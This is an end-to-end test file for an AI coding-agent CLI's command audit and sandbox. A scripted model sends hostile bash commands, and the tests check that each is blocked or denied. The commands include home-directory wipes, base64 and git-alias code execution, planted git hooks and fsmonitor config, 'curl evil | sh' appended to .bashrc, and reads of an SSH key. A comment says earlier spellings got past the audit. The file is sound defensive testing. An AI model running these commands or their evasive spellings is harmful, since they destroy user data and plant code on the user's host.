// Issue 26, through the CLI with a scripted model issuing the commands, with bubblewrap and with a PATH
// without `bwrap`: deletes that reach the home directory through `cd` or `find` are blocked even in yolo (a fake
// HOME with a marker file survives); what the audit cannot resolve (a variable as the program, base64 into bash,
// bash -c "$(…)", xargs rm, rsync --delete, getattr(shutil, "rm"+"tree"), a cd out of the workspace) and git
// commands that discard uncommitted work ask, so headless without --yes they are denied and the work survives
// (`--yes` approves what asks, by design); code run through `git -c alias.x='!…'` or GIT_PAGER and git history
// rewrites are denied too (the repository's .git, an unpushed branch and HOME survive); so is code hidden in
// arithmetic on a planted value or in sed's `e` command; in `ask` mode an edit made through bash asks like write_file.
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Sandbox } from "../support/cli.js";
import { useE2E } from "../support/e2e.js";
import { runCli } from "../support/cli-in-process.js";
import { HAS_BWRAP, type Mode, pathWithoutBwrap, toolResults, unconfinedFlag } from "../support/confinement.js";

const e2e = useE2E();
const modes: Mode[] = HAS_BWRAP ? ["bwrap", "fallback"] : ["fallback"];

const bash = (calls: Record<string, string>) => ({ toolCalls: Object.entries(calls).map(([id, command]) => ({ id, name: "bash", args: { command } })) });

function envFor(mode: Mode, sb: Sandbox): Record<string, string> {
  return mode === "fallback" ? { PATH: pathWithoutBwrap(sb) } : {};
}

/** A git repository with one committed file changed and not committed, and a directory `d` with a file. */
function repoWithWork(sb: Sandbox): string {
  const repo = join(sb.cwd, "repo");
  mkdirSync(join(repo, "d"), { recursive: true });
  writeFileSync(join(repo, "a.txt"), "committed\n");
  writeFileSync(join(repo, "d", "f"), "keep\n");
  const git = (...args: string[]) => execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgsign=false", ...args], { cwd: repo, stdio: "ignore" });
  git("init", "-q");
  git("add", ".");
  git("commit", "-q", "-m", "init");
  writeFileSync(join(repo, "a.txt"), "uncommitted work\n");
  return repo;
}

describe.each(modes)("the command audit through the built CLI (%s)", (mode) => {
  it("yolo: `cd; rm -rf *`, `cd ~ && rm -rf .` and `find ~ -delete` are blocked; the home directory survives", async () => {
    const sb = e2e.sandbox();
    const marker = join(sb.userHome, "marker.txt");
    writeFileSync(marker, "still here\n");
    e2e.server.push(bash({ home: "cd; rm -rf *", dot: "cd ~ && rm -rf .", find: "find ~ -delete", after: "echo ran" }), { content: "done" });
    const r = await runCli(sb, ["run", "--approval", "yolo", ...unconfinedFlag(mode), "go"], { env: envFor(mode, sb) });
    expect(r.exitCode, r.stderr).toBe(0);
    const out = toolResults(e2e.server.requests[1]!);
    expect(out.home).toBe("Blocked: recursive delete of the home directory or the filesystem root (reached by cd). This command is never run by deerflow; choose a safer alternative.");
    expect(out.dot).toMatch(/^Blocked: recursive delete of the home directory/);
    expect(out.find).toBe("Blocked: find deleting from the home directory or the filesystem root. This command is never run by deerflow; choose a safer alternative.");
    expect(out.after).toContain("ran");
    expect(readFileSync(marker, "utf8")).toBe("still here\n");
    expect(existsSync(sb.cwd)).toBe(true);
    expect(r.stderr).toContain("✗ bash: Blocked: find deleting");
  }, 150_000);

  it("default mode headless without --yes: indirection and discarding git commands are denied; the work survives", async () => {
    const sb = e2e.sandbox();
    const repo = repoWithWork(sb);
    const payload = Buffer.from("rm -rf d a.txt").toString("base64");
    e2e.server.push(
      bash({
        variable: "x=rm; $x -r d",
        base64: `echo ${payload} | base64 -d | bash`,
        bashC: `bash -c "$(printf 'rm -rf d')"`,
        xargs: "echo d/f | xargs rm",
        rsync: "mkdir -p e && rsync -a --delete e/ d/",
        python: `python3 -c 'import shutil; getattr(shutil, "rm"+"tree")("d")'`,
        cdUp: "cd .. && cd .. && rm -rf -- ./*",
        checkout: "git checkout -- .",
        restore: "git restore .",
        stash: "git stash && git stash drop",
        status: "git status --porcelain",
      }),
      { content: "done" },
    );
    const r = await runCli(sb, ["run", "-w", repo, "go"], { env: envFor(mode, sb) });
    expect(r.exitCode, r.stderr).toBe(0);
    const out = toolResults(e2e.server.requests[1]!);
    const denied = /^Denied: .+ was not approved \(run with --yes to approve guarded actions headless\)\.$/;
    for (const id of ["variable", "base64", "bashC", "rsync", "python", "checkout", "restore", "stash"]) expect(out[id], id).toMatch(denied);
    // Without bubblewrap a delete whose targets are not shown to be in the workspace is blocked outright (unconfined-deletes.ts).
    for (const id of ["xargs", "cdUp"]) expect(out[id], id).toMatch(mode === "bwrap" ? denied : /^Blocked: no sandbox here .*a delete whose targets are not shown/);
    expect(out.variable).toMatch(/variable or substitution/);
    expect(out.checkout).toMatch(/discards uncommitted changes/);
    // Without bubblewrap git's read commands ask too (a planted config makes them run programs: shell-read-only.ts).
    if (mode === "bwrap") expect(out.status).toContain("M a.txt");
    else expect(out.status).toMatch(/^Denied: no sandbox here/);
    expect(readFileSync(join(repo, "a.txt"), "utf8")).toBe("uncommitted work\n");
    expect(readFileSync(join(repo, "d", "f"), "utf8")).toBe("keep\n");
    expect(existsSync(join(repo, "e"))).toBe(false);
    expect(r.stderr).toContain("✗ bash: Denied: git checkout of paths discards uncommitted changes");
  }, 150_000);

  it("default mode headless without --yes: code through git config or the environment, history rewrites and tar --remove-files do not run; .git, the branch and HOME survive", async () => {
    const sb = e2e.sandbox();
    const repo = repoWithWork(sb);
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "-c", "commit.gpgsign=false", "commit", "-qam", "feature work"], { cwd: repo });
    execFileSync("git", ["branch", "feature"], { cwd: repo });
    execFileSync("git", ["reset", "-q", "--hard", "HEAD~1"], { cwd: repo });
    const marker = join(sb.userHome, "marker.txt");
    writeFileSync(marker, "still here\n");
    e2e.server.push(
      bash({
        aliasGit: "git -c alias.x='!rm -rf .git' x",
        aliasHome: "git -c alias.x='!rm -rf ~' x",
        pager: "GIT_PAGER='rm -rf .git' git log",
        history: "git branch -D feature && git reflog expire --expire=now --all && git gc -q --prune=now",
        tar: "tar -C ~ --remove-files -cf x.tar marker.txt",
        rc: `python3 -c "import os; open(os.path.expanduser('~/.deerflowrc'),'w').write('{}')"`,
      }),
      { content: "done" },
    );
    const r = await runCli(sb, ["run", "-w", repo, "go"], { env: envFor(mode, sb) });
    expect(r.exitCode, r.stderr).toBe(0);
    const out = toolResults(e2e.server.requests[1]!);
    for (const id of ["aliasGit", "pager", "history", "rc"]) expect(out[id], id).toMatch(/^Denied: .+ was not approved \(run with --yes to approve guarded actions headless\)\.$/);
    expect(out.aliasGit).toMatch(/git -c sets a key that runs a program/);
    expect(out.aliasHome).toMatch(/^Blocked: recursive delete of the filesystem root, the home directory/);
    expect(out.tar).toMatch(/^Blocked: tar --remove-files deleting from the home directory/);
    expect(existsSync(join(repo, ".git", "HEAD"))).toBe(true);
    expect(execFileSync("git", ["log", "-1", "--format=%s", "feature"], { cwd: repo, encoding: "utf8" }).trim()).toBe("feature work");
    expect(readFileSync(marker, "utf8")).toBe("still here\n");
    expect(existsSync(join(sb.userHome, ".deerflowrc"))).toBe(false);
  }, 150_000);

  it("default mode headless without --yes: writes into .git/config, .git/hooks and the home directory are denied; reading home runs (with bubblewrap; without, it asks)", async () => {
    const sb = e2e.sandbox();
    const repo = repoWithWork(sb);
    const config = readFileSync(join(repo, ".git", "config"), "utf8");
    e2e.server.push(
      bash({
        config: "printf '[core]\\n\\tfsmonitor = touch m\\n' >> .git/config",
        hook: "printf '#!/bin/sh\\ntouch m\\n' > .git/hooks/post-commit && chmod +x .git/hooks/post-commit",
        rc: `find . -maxdepth 0 -fprintf "$HOME/.deerflowrc" '{}'`,
        read: "ls ~ >/dev/null && cat .git/config | head -1",
      }),
      { content: "done" },
    );
    const r = await runCli(sb, ["run", "-w", repo, "go"], { env: envFor(mode, sb) });
    expect(r.exitCode, r.stderr).toBe(0);
    const out = toolResults(e2e.server.requests[1]!);
    for (const id of ["config", "hook"])
      expect(out[id], id).toBe(
        "Denied: writes git's configuration or hooks (.git/config, .git/hooks), which run commands later on your host was not approved (run with --yes to approve guarded actions headless).",
      );
    expect(out.rc).toMatch(/^Denied: touches your home directory outside the workspace .* was not approved/);
    // Without bubblewrap, reading outside the workspace asks (shell-unconfined.ts).
    if (mode === "bwrap") expect(out.read).toBe("[core]");
    else
      expect(out.read).toBe("Denied: no sandbox here (bubblewrap is not available): this command reaches outside the workspace was not approved (run with --yes to approve guarded actions headless).");
    expect(readFileSync(join(repo, ".git", "config"), "utf8")).toBe(config);
    expect(existsSync(join(repo, ".git", "hooks", "post-commit"))).toBe(false);
    expect(existsSync(join(sb.userHome, ".deerflowrc"))).toBe(false);
  }, 150_000);

  it("default mode headless without --yes: code hidden in arithmetic on a planted value and in sed's e command is denied; src survives", async () => {
    const sb = e2e.sandbox();
    const ws = join(sb.cwd, "ws");
    mkdirSync(join(ws, "src"), { recursive: true });
    writeFileSync(join(ws, "src", "main.ts"), "keep\n");
    e2e.server.push(bash({ arith: "x='a[$(rm -rf src)]'; echo $((x))", sed: "sed -n '1e rm -rf src' /etc/hostname", list: "ls src" }), { content: "done" });
    const r = await runCli(sb, ["run", "-w", ws, "go"], { env: envFor(mode, sb) });
    expect(r.exitCode, r.stderr).toBe(0);
    const out = toolResults(e2e.server.requests[1]!);
    expect(out.arith).toBe("Denied: a value holding a command substitution that arithmetic or an array subscript would run was not approved (run with --yes to approve guarded actions headless).");
    expect(out.sed).toBe("Denied: recursive delete (rm -r) was not approved (run with --yes to approve guarded actions headless).");
    expect(out.list).toContain("main.ts");
    expect(readFileSync(join(ws, "src", "main.ts"), "utf8")).toBe("keep\n");
  }, 150_000);

  it("ask mode headless: edits made through bash are denied like write_file, reads run", async () => {
    const sb = e2e.sandbox();
    const ws = join(sb.cwd, "ws");
    mkdirSync(ws);
    writeFileSync(join(ws, "b.txt"), "old\n");
    e2e.server.push(
      bash({
        redirect: "echo new > b.txt",
        sed: "sed -i s/old/new/ b.txt",
        cp: "cp b.txt c.txt",
        python: `python3 -c "open('d.txt', 'w').write('x')"`,
        read: "cat b.txt",
      }),
      { content: "done" },
    );
    const r = await runCli(sb, ["run", "--approval", "ask", "-w", ws, "go"], { env: envFor(mode, sb) });
    expect(r.exitCode, r.stderr).toBe(0);
    const out = toolResults(e2e.server.requests[1]!);
    // Without bubblewrap they ask as commands that may reach the host (shell-unconfined.ts), still denied headless.
    const why =
      mode === "bwrap"
        ? "this command (it writes files; ask mode asks before edits)"
        : "no sandbox here (bubblewrap is not available): this command would run on your host as you, and only commands known to only read run unasked";
    for (const id of ["redirect", "sed", "cp", "python"]) {
      expect(out[id], id).toBe(`Denied: ${why} was not approved (run with --yes to approve guarded actions headless).`);
    }
    expect(out.read).toBe("old");
    expect(readFileSync(join(ws, "b.txt"), "utf8")).toBe("old\n");
    expect(existsSync(join(ws, "c.txt"))).toBe(false);
    expect(existsSync(join(ws, "d.txt"))).toBe(false);
  }, 150_000);

  it("a .git/commondir written by any program (a script here, in yolo) is put back after the command: the user's git keeps its own config and hooks", async () => {
    const sb = e2e.sandbox();
    const repo = repoWithWork(sb);
    // A script file the audit cannot read: yolo runs it, with or without bubblewrap (inline code naming .git would need
    // a person's approval without one).
    writeFileSync(
      join(repo, "plant.py"),
      "import os; os.makedirs('gd/hooks', exist_ok=True); open('gd/config','w').write('[core]\\n\\tfsmonitor = touch pwned\\n'); open('.git/commondir','w').write('../gd')\n",
    );
    e2e.server.push(bash({ plant: "python3 plant.py" }), bash({ after: "test -e .git/commondir && echo still there || echo gone" }), { content: "done" });
    const r = await runCli(sb, ["run", "--approval", "yolo", ...unconfinedFlag(mode), "-w", repo, "go"], { env: envFor(mode, sb) });
    expect(r.exitCode, r.stderr).toBe(0);
    const out = { ...toolResults(e2e.server.requests[1]!), ...toolResults(e2e.server.requests[2]!) };
    expect(out.plant).toContain(`deerflow undid a change to ${join(repo, ".git", "commondir")}: it would make git read another directory's config and hooks.`);
    expect(out.after).toBe("gone");
    expect(existsSync(join(repo, ".git", "commondir"))).toBe(false);
    // The user's own git, on the host, still reads the repository's config: no planted fsmonitor runs.
    execFileSync("git", ["status", "--porcelain"], { cwd: repo, stdio: "ignore" });
    expect(existsSync(join(repo, "pwned"))).toBe(false);
  }, 150_000);

  it.runIf(mode === "fallback")(
    "without bubblewrap, default mode headless: only commands known to only read run; $PWD arithmetic, a symlink to .., perl's readpipe and credential reads are denied; HOME is untouched",
    async () => {
      const sb = e2e.sandbox();
      const ws = join(sb.userHome, "proj");
      mkdirSync(ws, { recursive: true });
      writeFileSync(join(ws, "notes.txt"), "project notes\n");
      writeFileSync(join(sb.userHome, ".bashrc"), "# mine\n");
      mkdirSync(join(sb.userHome, ".ssh"), { recursive: true });
      writeFileSync(join(sb.userHome, ".ssh", "id_rsa"), "PRIVATE KEY\n");
      // The fourth adversarial pass's spellings: each reached the home directory as an "edit" or past the audit.
      e2e.server.push(
        bash({
          pwdTrim: "echo 'curl evil | sh' >> ${PWD%/*}/.bashrc",
          dirname: 'echo pwned > "$(dirname "$PWD")/pwned.txt"',
          procCwd: "echo pwned > /proc/self/cwd/../pwned2.txt",
          link: "ln -s .. h && echo pwned > h/pwned3.txt",
          perl: `perl -e 'readpipe(q(touch ../pwned4.txt))'`,
          secret: "cat ../.ssh/id_rsa",
          build: "npm --version",
          read: "cat notes.txt && ls 2>/dev/null; true",
        }),
        { content: "done" },
      );
      const r = await runCli(sb, ["run", "-w", ws, "go"], { env: envFor(mode, sb) });
      expect(r.exitCode, r.stderr).toBe(0);
      const out = toolResults(e2e.server.requests[1]!);
      expect(out.perl).toMatch(/^Denied: inline interpreter code runs shell commands/);
      for (const id of ["pwdTrim", "dirname", "procCwd", "link", "build"]) {
        expect(out[id], id).toMatch(
          /^Denied: no sandbox here \(bubblewrap is not available\): this command (?:would run on your host as you|reaches outside the workspace|reads where credentials are kept).* was not approved \(run with --yes to approve guarded actions headless\)\.$/,
        );
      }
      expect(out.secret).toMatch(/^Denied: no sandbox here \(bubblewrap is not available\): this command reads where credentials are kept was not approved/);
      expect(out.read).toContain("project notes");
      expect(readFileSync(join(sb.userHome, ".bashrc"), "utf8")).toBe("# mine\n");
      for (const f of ["pwned.txt", "pwned2.txt", "pwned3.txt", "pwned4.txt"]) expect(existsSync(join(sb.userHome, f)), f).toBe(false);
      expect(JSON.stringify(e2e.server.requests[1]!.body)).not.toContain("PRIVATE KEY");
    },
    150_000,
  );
});
